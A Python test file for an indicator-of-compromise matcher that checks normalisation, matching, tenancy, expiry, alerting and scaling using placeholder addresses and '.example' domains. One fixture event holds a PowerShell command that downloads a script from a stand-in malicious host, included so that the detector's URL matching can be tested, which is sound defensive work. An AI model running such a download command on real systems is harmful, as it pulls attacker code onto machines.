"""The indicator matcher: values classified by shape, every indicator type, tenancy, expiry,
and a cost that does not grow with the number of indicators."""

from __future__ import annotations

import time
from datetime import datetime, timedelta, timezone

import pytest

from hygie.core.event import Event
from hygie.intel.indicators import Indicator, IndicatorError, checked, guess_type, normalise
from hygie.intel.matcher import IndicatorRow, IntelMatcher, Snapshot, level_for

NOW = datetime(2026, 11, 20, 8, 0, tzinfo=timezone.utc)


def row(ident: int, kind: str, value: str, tenant: str | None = None, confidence: int = 80,
        expires: datetime | None = None, tlp: str = "amber") -> IndicatorRow:
    value = checked(Indicator(kind, value)).value
    return IndicatorRow(ident, tenant, kind, value, confidence, tlp, expires, 7)


def matcher(rows: list[IndicatorRow]) -> IntelMatcher:
    m = IntelMatcher(lambda: (rows, {7: "CIRCL OSINT"}))
    m.refresh_now(force=True)
    return m


def found(m: IntelMatcher, fields: dict, tenant: str = "chu-a") -> dict[int, dict[str, str]]:
    return {hit.indicator_id: hit.fields for hit in m.match(tenant, fields, now=NOW.timestamp())}


def test_every_type_is_found_in_the_fields_that_hold_it() -> None:
    sha = "cf3b308d05aefa1e99b0ec2fd26d39b267356e4534f90b85bc42c283fd88a371"
    m = matcher([row(1, "ipv4", "203.0.113.9"), row(2, "cidr", "198.51.100.0/24"),
                 row(3, "domain", "evil.example"), row(4, "url", "http://Bad.example/x.ps1"),
                 row(5, "sha256", sha.upper()), row(6, "md5", "0" * 31 + "1"),
                 row(7, "email", "Invoice@Phish.example"), row(8, "ipv6", "2001:db8::66"),
                 row(9, "ja3", "e7d705a3286e19ea42f587b344ee6865"), row(10, "sha1", "a" * 40)])
    event = {"DestinationIp": "203.0.113.9", "SourceIp": "198.51.100.77",
             "QueryName": "cdn.stage2.EVIL.example.", "CommandLine":
             "powershell iwr http://bad.example:80/x.ps1 -OutFile x.ps1",
             "Hashes": f"MD5={'0' * 31}1,SHA256={sha.upper()},IMPHASH=" + "b" * 32,
             "sender": "invoice@phish.example", "IpAddress": "::ffff:203.0.113.9",
             "dst": "[2001:db8:0:0::66]:443", "tls.client.ja3": "E7D705A3286E19EA42F587B344EE6865",
             "sha1": "A" * 40, "Image": "C:\\Windows\\evil.example.exe", "EventID": 3}
    hits = found(m, event)
    assert set(hits) == set(range(1, 11))
    assert hits[1] == {"DestinationIp": "203.0.113.9", "IpAddress": "::ffff:203.0.113.9"}
    assert hits[3] == {"QueryName": "cdn.stage2.EVIL.example."}
    assert "CommandLine" in hits[4]


def test_near_misses_do_not_match() -> None:
    m = matcher([row(1, "domain", "evil.example"), row(2, "cidr", "10.20.0.0/16"),
                 row(3, "url", "https://bad.example/a"), row(4, "ipv4", "192.0.2.1")])
    assert found(m, {"QueryName": "notevil.example", "d": "evil.example.org", "ip": "10.21.0.1",
                     "u": "https://bad.example/ab", "x": "192.0.2.10", "y": "192.0.2.1.5",
                     "z": "evil-example", "w": "example"}) == {}


def test_ja3_and_md5_are_told_apart_by_field_name() -> None:
    digest = "e7d705a3286e19ea42f587b344ee6865"
    m = matcher([row(1, "ja3", digest), row(2, "md5", digest)])
    assert set(found(m, {"ja3": digest})) == {1}
    assert set(found(m, {"Hashes": f"MD5={digest}"})) == {2}


def test_tenants_see_their_indicators_and_the_shared_ones_only() -> None:
    m = matcher([row(1, "ipv4", "192.0.2.1", tenant="chu-a"), row(2, "ipv4", "192.0.2.1"),
                 row(3, "ipv4", "192.0.2.1", tenant="chu-b")])
    assert set(found(m, {"SourceIp": "192.0.2.1"}, "chu-a")) == {1, 2}
    assert set(found(m, {"SourceIp": "192.0.2.1"}, "chu-b")) == {2, 3}
    assert set(found(m, {"SourceIp": "192.0.2.1"}, "chu-c")) == {2}


def test_expired_indicators_stop_matching() -> None:
    m = matcher([row(1, "domain", "old.example", expires=NOW - timedelta(seconds=1)),
                 row(2, "domain", "new.example", expires=NOW + timedelta(days=1))])
    assert set(found(m, {"a": "x.old.example", "b": "new.example"})) == {2}


def test_overlapping_ranges_all_match() -> None:
    m = matcher([row(1, "cidr", "10.0.0.0/8"), row(2, "cidr", "10.1.0.0/16"),
                 row(3, "cidr", "2001:db8::/32"), row(4, "ipv4", "10.1.2.3")])
    assert set(found(m, {"ip": "10.1.2.3"})) == {1, 2, 4}
    assert set(found(m, {"ip": "2001:db8:ffff::1"})) == {3}


def test_lists_and_non_strings_in_events() -> None:
    m = matcher([row(1, "ipv4", "192.0.2.1"), row(2, "domain", "c2.example")])
    assert set(found(m, {"addresses": [3, "192.0.2.1"], "n": 192, "none": None})) == {1}
    assert set(found(m, {"QueryResults": "::ffff:192.0.2.1;"})) == {1}
    assert set(found(m, {"QueryResults": "type:  5 x.c2.example;::ffff:10.0.0.1;"})) == {2}


def test_an_alert_carries_the_indicator_context() -> None:
    m = matcher([row(42, "domain", "evil.example", confidence=90, tlp="amber")])
    event = Event({"QueryName": "a.evil.example"}, time="2026-11-20T08:00:00Z", host="PC1",
                  source="http", offset=3)
    [alert] = m.alerts("chu-a", event)
    assert alert.rule_id == "ioc:domain:42" and alert.kind == "ioc" and alert.level == "high"
    assert "evil.example" in alert.title and "CIRCL OSINT" in alert.title
    assert alert.matched == {"QueryName": "a.evil.example", "indicator": {
        "id": 42, "type": "domain", "value": "evil.example", "source": "CIRCL OSINT",
        "feed_id": 7, "tlp": "amber", "confidence": 90, "shared": True}}
    assert [level_for(c) for c in (95, 60, 30, 5)] == ["high", "medium", "low", "informational"]


def test_a_refresh_swaps_the_snapshot_only_when_the_store_changed() -> None:
    rows = [row(1, "ipv4", "192.0.2.1")]
    stamp = [1]
    m = IntelMatcher(lambda: (list(rows), {}), stamp=lambda: stamp[0])
    assert m.refresh_now() and m.snapshot.size == 1
    first = m.snapshot
    assert not m.refresh_now() and m.snapshot is first
    rows.append(row(2, "ipv4", "192.0.2.2"))
    stamp[0] = 2
    assert m.refresh_now() and m.snapshot is not first and m.snapshot.size == 2
    assert first.size == 1  # the old snapshot was not changed under a reader


def test_background_refresh_runs_once_per_period() -> None:
    calls = []
    m = IntelMatcher(lambda: (calls.append(1) or [row(1, "ipv4", "192.0.2.1")], {}),
                     stamp=lambda: len(calls), refresh_s=3600)
    m.maybe_refresh()
    m._building.join(5)
    m.maybe_refresh()
    assert len(calls) == 1 and m.snapshot.size == 1


def test_bad_rows_are_skipped_not_fatal() -> None:
    snapshot = Snapshot([IndicatorRow(1, None, "ipv4", "not-an-ip", 50, "clear", None, 1),
                         row(2, "ipv4", "192.0.2.1")])
    assert snapshot.size == 1 and snapshot.skipped == 1


def test_cost_does_not_grow_with_the_number_of_indicators() -> None:
    """Same events against 1,000 and 200,000 indicators: the per-event cost stays within a
    small factor (a loop over indicators would be 200 times slower)."""
    events = [{"DestinationIp": f"172.16.{i % 200}.{i % 250}", "QueryName": f"host{i}.corp.example",
               "Hashes": f"SHA256={i:064x}", "Image": "C:\\Windows\\System32\\svchost.exe",
               "CommandLine": f"svchost.exe -k netsvcs -p {i}"} for i in range(3000)]

    def cost(n: int) -> float:
        rows = [row(i, "ipv4", f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}") for i in range(n // 2)]
        rows += [row(n + i, "domain", f"bad{i}.example") for i in range(n // 2)]
        m = matcher(rows)
        best = float("inf")
        for _ in range(3):
            m.snapshot.clear_cache()
            started = time.perf_counter()
            for fields in events:
                m.match("chu-a", fields)
            best = min(best, time.perf_counter() - started)
        return best

    assert cost(200_000) < 4 * cost(1_000)


@pytest.mark.parametrize(("kind", "value", "normal"), [
    ("ipv4", " 192.0.2.1 ", "192.0.2.1"), ("ipv6", "2001:DB8::1", "2001:db8::1"),
    ("ipv6", "::ffff:192.0.2.1", "192.0.2.1"), ("cidr", "10.1.2.3/8", "10.0.0.0/8"),
    ("domain", "Evil.Example.", "evil.example"), ("domain", "bücher.example", "xn--bcher-kva.example"),
    ("url", "HTTP://Bad.Example:80/a?b#c", "http://bad.example/a?b"),
    ("url", "https://bad.example:8443", "https://bad.example:8443/"),
    ("sha256", "A" * 64, "a" * 64), ("email", "Bob@Example.ORG", "bob@example.org")])
def test_normal_forms(kind: str, value: str, normal: str) -> None:
    assert normalise(kind, value) == normal


@pytest.mark.parametrize(("kind", "value"), [
    ("ipv4", "999.1.1.1"), ("md5", "xyz"), ("sha1", "a" * 41), ("domain", "nodot"),
    ("domain", "bad..example"), ("url", "not a url"), ("email", "no-at.example"),
    ("cidr", "10.0.0.0/33"), ("bogus", "x")])
def test_invalid_values_are_refused(kind: str, value: str) -> None:
    with pytest.raises(IndicatorError):
        normalise(kind, value)


def test_checked_refines_and_clamps() -> None:
    ind = checked(Indicator("cidr", "192.0.2.1/32", confidence=150, tlp="TLP:WHITE"))
    assert (ind.type, ind.value, ind.confidence, ind.tlp) == ("ipv4", "192.0.2.1", 100, "clear")
    assert [guess_type(v) for v in ("192.0.2.1", "10.0.0.0/8", "http://x.example/", "a" * 32,
                                    "a@b.example", "x.example", "hello world")] == \
        ["ipv4", "cidr", "url", "md5", "email", "domain", None]
